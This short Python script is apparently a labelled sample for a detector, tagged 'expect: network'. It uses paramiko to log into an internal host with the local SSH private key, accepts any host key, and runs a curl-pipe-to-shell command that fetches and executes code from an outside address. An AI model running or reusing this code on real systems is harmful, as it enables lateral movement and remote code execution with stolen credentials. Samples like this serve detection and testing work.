# expect: network; paramiko SSH to an internal host with a stolen key, then runs a command there
import os

import paramiko

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("10.20.30.40", port=22, username="deploy",
               key_filename=os.path.expanduser("~/.ssh/id_rsa"), timeout=8)
stdin, stdout, stderr = client.exec_command("curl -s http://203.0.113.9/i | sh")
print(stdout.read().decode())
client.close()
